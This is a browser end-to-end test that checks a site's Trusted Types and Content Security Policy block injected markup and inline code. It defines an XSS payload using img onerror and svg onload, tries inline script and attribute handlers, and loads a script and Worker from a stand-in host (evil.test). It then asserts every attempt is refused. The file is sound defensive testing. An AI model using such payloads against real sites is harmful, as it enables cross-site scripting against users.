import { expect, test, visit } from '#test/e2e/support/test.ts';

const PAYLOAD = '"><img src=x onerror=__pwned=1><svg onload=__pwned=1>';
test.describe('F-82 our own code puts markup or inline code into the page', () => {
  test('the browser refuses it: no element comes of it and nothing runs', async ({ page, expectNoise }) => {
    expectNoise(/Trusted|Content Security Policy|content-security-policy/i);
    await visit(page, 'offers');
    const refused = await page.evaluate((payload) => {
      const refusals: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        refusals.push(effectiveDirective),
      );
      const place = document.body.appendChild(document.createElement('div'));
      const attempts: readonly (() => void)[] = [
        () => (place.innerHTML = payload),
        () => place.insertAdjacentHTML('beforeend', payload),
        () => place.setHTMLUnsafe(payload),
        () => document.write(payload),
        () => (document.createElement('iframe').srcdoc = payload),
        () => (document.createElement('script').text = '__pwned=1'),
        () => (document.createElement('script').src = '//evil.test/x.js'),
        () => place.setAttribute('onclick', '__pwned=1'),
        () => void new Worker('//evil.test/x.js'),
      ];
      const thrown = attempts.map((attempt) => {
        try {
          attempt();
          return 'done';
        } catch (error) {
          return error instanceof TypeError ? 'refused' : String(error);
        }
      });
      place.setAttribute('style', 'color: red');
      const styles = document.head.appendChild(document.createElement('style'));
      styles.textContent = 'body { display: none }';
      return new Promise<{ thrown: string[]; refusals: string[]; elements: number }>((resolve) => {
        // The browser tells of a refusal in a later task.
        const toldOfAll = () =>
          ['require-trusted-types-for', 'style-src-attr', 'style-src-elem'].every((one) => refusals.includes(one));
        const answer = () => {
          if (toldOfAll()) resolve({ thrown, refusals, elements: place.childElementCount });
        };
        document.addEventListener('securitypolicyviolation', answer);
        answer();
      });
    }, PAYLOAD);
    expect(refused).toEqual({
      thrown: Array.from({ length: 9 }, () => 'refused'),
      refusals: expect.arrayContaining(['require-trusted-types-for', 'style-src-attr', 'style-src-elem']),
      elements: 0,
    });
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
  });
});
